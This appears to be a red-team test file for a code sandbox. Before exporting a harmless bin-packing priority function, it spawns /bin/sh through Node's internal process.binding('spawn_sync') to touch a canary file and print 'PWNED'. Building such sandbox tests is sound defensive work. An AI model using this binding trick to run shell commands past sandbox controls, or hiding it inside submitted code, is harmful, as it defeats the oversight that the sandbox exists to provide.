// @ts-nocheck
// biome-ignore-all lint: red-team attack code, written to misbehave
// Low-level spawn through the internal binding (avoids the child_process overhead).
const spawnSync = (process as any).binding("spawn_sync");
const result = spawnSync.spawn({
  file: "/bin/sh",
  args: ["/bin/sh", "-c", "touch __CANARY_DIR__/pwned-binding"],
  envPairs: [],
  stdio: [
    { type: "pipe", readable: true, writable: false },
    { type: "pipe", readable: false, writable: true },
    { type: "pipe", readable: false, writable: true },
  ],
});
console.log("PWNED process.binding spawn", JSON.stringify(result?.status));

export function priority(item: number, bins: number[]): number[] {
  return bins.map((bin) => -(bin - item));
}
